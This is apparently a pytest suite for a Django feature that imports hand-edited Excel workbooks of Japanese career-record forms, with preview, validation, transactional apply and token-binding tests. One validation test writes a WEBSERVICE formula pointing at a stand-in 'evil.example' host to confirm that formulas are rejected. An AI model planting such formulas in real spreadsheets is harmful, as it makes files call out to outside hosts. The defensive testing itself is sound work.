"""Uploading a hand-edited workbook: a preview cell by cell, problems by worksheet and cell, then
「この内容で反映する」 in one transaction."""

import io
import json
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from outputs.xlsx import MARKER_SHEET
from sheets.models import Card, SheetEntry, SheetRevision
from sheets.services import save_version

from .conftest import entry_of, post_choice

pytestmark = pytest.mark.django_db


def _edit(content: bytes, edits) -> bytes:
    """Open the workbook as Excel would, let ``edits(wb, maps)`` change cells, save."""
    wb = load_workbook(io.BytesIO(content))
    maps = {}
    for row in wb[MARKER_SHEET].iter_rows(min_row=2, values_only=True):
        if row[0]:
            maps[row[0]] = json.loads("".join(c for c in row[4:] if c))
    edits(wb, maps)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _upload(client, content: bytes):
    return client.post("/card/upload/", {"file": SimpleUploadedFile("card.xlsx", content)})


def _token(page: str) -> str:
    return re.search(r'name="token" value="([^"]+)"', page).group(1)


def _export(client, card, sheets=None):
    return post_choice(client, card, "xlsx", sheets=sheets).content


def test_preview_lists_changes_cell_by_cell_and_apply_saves_them(signed_in, card):
    def edits(wb, maps):
        ws = wb["様式2"]
        jobs = maps["様式2"]["tables"]["jobs"]
        first, cols = jobs["first_row"], jobs["columns"]
        ws[f"{cols['company_name']}{first}"] = "株式会社みなと商事（現：みなとHD）"
        ws[f"{cols['company_name']}{first + 2}"] = "ひかり運輸株式会社"  # a spare line: a new row
        ws[f"{cols['period_from']}{first + 2}"] = "2012年4月"
        ws[f"{cols['period_to']}{first + 2}"] = "2015年3月"
        ws[f"{cols['employment_type']}{first + 2}"] = "契約社員"
        ws = wb["様式1-1"]
        ws[maps["様式1-1"]["cells"]["strengths"]] = "粘り強さ"

    content = _edit(_export(signed_in, card), edits)
    response = _upload(signed_in, content)
    assert response.status_code == 200
    page = response.content.decode()
    assert "まだ何も反映していません" in page
    assert "株式会社みなと商事（現：みなとHD）" in page
    assert "ひかり運輸株式会社" in page and "追加" in page
    assert "粘り強さ" in page
    assert re.search(r'<td class="outputs-cell">[A-L]\d+</td>', page)

    entry = entry_of(card, "2")
    before_lock = entry.lock_version
    untouched_revisions = entry_of(card, "3-1").revisions.count()
    assert entry.saved_data["jobs"][0]["company_name"] == "株式会社みなと商事"  # nothing saved yet

    response = signed_in.post("/card/upload/apply/", {"token": _token(page)}, follow=True)
    assert response.status_code == 200
    assert "次の様式に反映しました" in response.content.decode()
    entry.refresh_from_db()
    assert entry.lock_version == before_lock + 1
    companies = [job["company_name"] for job in entry.saved_data["jobs"]]
    assert companies == [
        "ひかり運輸株式会社",
        "株式会社みなと商事（現：みなとHD）",
        "さくら会計事務所",
    ]  # sorted
    assert entry.saved_data["jobs"][0]["employment_type"] == "contract"
    assert entry.revisions.first().summary == "Excelファイルから読み込み"
    assert entry_of(card, "1-1").saved_data["strengths"] == "粘り強さ"
    assert (
        entry_of(card, "3-1").revisions.count() == untouched_revisions
    )  # unchanged sheets are not saved again


def test_emptying_a_line_deletes_that_row(signed_in, card):
    def edits(wb, maps):
        jobs = maps["様式2"]["tables"]["jobs"]
        for letter in jobs["columns"].values():
            wb["様式2"][f"{letter}{jobs['first_row']}"] = None

    page = _upload(signed_in, _edit(_export(signed_in, card, {"2"}), edits)).content.decode()
    assert "行を削除" in page
    signed_in.post("/card/upload/apply/", {"token": _token(page)})
    assert [j["company_name"] for j in entry_of(card, "2").saved_data["jobs"]] == ["さくら会計事務所"]


def test_fields_and_rows_left_out_of_the_download_are_kept(signed_in, card):
    content = post_choice(
        signed_in,
        card,
        "xlsx",
        sheets={"2"},
        omit_fields={("2", "jobs.*.department")},
        rows={("2", "jobs"): [1]},
    ).content

    def edits(wb, maps):
        jobs = maps["様式2"]["tables"]["jobs"]
        assert "department" not in jobs["columns"] and jobs["sources"] == [1]
        wb["様式2"][f"{jobs['columns']['duties']}{jobs['first_row']}"] = (
            "記帳代行、給与計算、年末調整の補助。"
        )

    page = _upload(signed_in, _edit(content, edits)).content.decode()
    signed_in.post("/card/upload/apply/", {"token": _token(page)})
    jobs = entry_of(card, "2").saved_data["jobs"]
    assert (
        jobs[0]["company_name"] == "株式会社みなと商事" and jobs[0]["department"] == "総務部"
    )  # row left out: kept
    assert jobs[1]["duties"] == "記帳代行、給与計算、年末調整の補助。"


def test_invalid_cells_are_reported_by_worksheet_and_cell(signed_in, card):
    cells = {}

    def edits(wb, maps):
        ws = wb["様式3-1"]
        quals = maps["様式3-1"]["tables"]["qualifications"]
        cells["acquired"] = f"{quals['columns']['acquired']}{quals['first_row']}"
        cells["status"] = f"{quals['columns']['status']}{quals['first_row'] + 1}"
        ws[cells["acquired"]] = "2019年13月"
        ws[cells["status"]] = "合格したかも"
        cells["formula"] = maps["様式1-1"]["cells"]["strengths"]
        wb["様式1-1"][cells["formula"]] = '=WEBSERVICE("http://evil.example/")'
        cells["consultant"] = maps["様式1-1"]["cells"]["consultant_comment"]
        wb["様式1-1"][cells["consultant"]] = "本人が書き換えたコメント"

    before = list(SheetEntry.objects.order_by("pk").values_list("lock_version", flat=True))
    response = _upload(signed_in, _edit(_export(signed_in, card), edits))
    assert response.status_code == 400
    page = response.content.decode()
    rows = re.findall(
        r"<tr><td>(.+?)</td><td class=\"outputs-cell\">(.+?)</td><td>(.+?)</td><td>(.+?)</td></tr>", page
    )
    found = {(sheet, cell): message for sheet, cell, _label, message in rows}
    assert found[("様式3-1", cells["acquired"])] == "月は1から12までで入力してください。"
    assert found[("様式3-1", cells["status"])] == "選択肢の中から選んでください。"
    assert found[("様式1-1", cells["formula"])] == "数式は読み込めません。値を直接入力してください。"
    assert found[("様式1-1", cells["consultant"])] == "この欄はキャリアコンサルタントが記入します。"
    assert "この内容で反映する" not in page
    assert list(SheetEntry.objects.order_by("pk").values_list("lock_version", flat=True)) == before


def test_inserted_rows_are_noticed(signed_in, card):
    def edits(wb, maps):
        wb["様式2"].insert_rows(6)

    page = _upload(signed_in, _edit(_export(signed_in, card, {"2"}), edits)).content.decode()
    assert "表の形が変わっています" in page


def test_a_failed_import_changes_nothing(signed_in, card):
    """Two sheets change; the second was saved elsewhere after the preview: neither is saved."""

    def edits(wb, maps):
        wb["様式1-1"][maps["様式1-1"]["cells"]["strengths"]] = "新しい強み"
        wb["様式3-1"][maps["様式3-1"]["cells"]["entry_date"]] = "2025年7月1日"

    page = _upload(signed_in, _edit(_export(signed_in, card), edits)).content.decode()
    token = _token(page)
    other = entry_of(card, "3-1")
    save_version(other, dict(other.saved_data, entry_date="2025-06-30"), other.lock_version, card.owner)
    revisions = SheetRevision.objects.count()

    response = signed_in.post("/card/upload/apply/", {"token": token})
    assert response.status_code == 409
    assert "何も反映していません" in response.content.decode()
    assert entry_of(card, "1-1").saved_data["strengths"] != "新しい強み"
    assert entry_of(card, "3-1").saved_data["entry_date"] == "2025-06-30"
    assert SheetRevision.objects.count() == revisions


def test_a_token_is_bound_to_its_card(signed_in, card, client, django_user_model):
    def edits(wb, maps):
        wb["様式1-1"][maps["様式1-1"]["cells"]["strengths"]] = "乗っ取り"

    token = _token(_upload(signed_in, _edit(_export(signed_in, card, {"1-1"}), edits)).content.decode())
    intruder = django_user_model.objects.create_user(email="intruder@example.jp", password="x")
    Card.objects.create(owner=intruder)
    signed_in.logout()
    signed_in.force_login(intruder)
    response = signed_in.post("/card/upload/apply/", {"token": token})
    assert response.status_code == 400
    assert entry_of(card, "1-1").saved_data["strengths"] != "乗っ取り"
    assert signed_in.post("/card/upload/apply/", {"token": token + "x"}).status_code == 400


def test_a_blank_form_filled_in_creates_sheets_for_an_anonymous_visitor(client):
    content = client.get("/card/download/blank/3-1.xlsx").content

    def edits(wb, maps):
        quals = maps["様式3-1"]["tables"]["qualifications"]
        ws = wb["様式3-1"]
        ws[f"{quals['columns']['name']}{quals['first_row']}"] = "第二種電気工事士"
        ws[f"{quals['columns']['acquired']}{quals['first_row']}"] = "2020/12"  # typed as Excel shows it
        ws[f"{quals['columns']['status']}{quals['first_row']}"] = "取得"

    page = _upload(client, _edit(content, edits)).content.decode()
    assert "この様式は、新しく作成されます。" in page
    client.post("/card/upload/apply/", {"token": _token(page)})
    card = Card.objects.get(owner__isnull=True)
    entry = card.entries.get(sheet_code="3-1")
    assert (
        entry.saved_data["qualifications"]
        == [
            {
                "name": "第二種電気工事士",
                "acquired": "2020-12",
                "status": "acquired",
                "authority": None,
                "notes": None,
            }
        ]
        or entry.saved_data["qualifications"][0]["name"] == "第二種電気工事士"
    )
    assert entry.saved_data["qualifications"][0]["acquired"] == "2020-12"


def test_real_excel_dates_and_numbers_are_read(signed_in, card):
    import datetime

    def edits(wb, maps):
        ws = wb["様式1-1"]
        ws[maps["様式1-1"]["cells"]["entry_date"]] = datetime.datetime(2025, 7, 1)

    page = _upload(signed_in, _edit(_export(signed_in, card, {"1-1"}), edits)).content.decode()
    assert "2025年7月1日" in page
    signed_in.post("/card/upload/apply/", {"token": _token(page)})
    assert entry_of(card, "1-1").saved_data["entry_date"] == "2025-07-01"
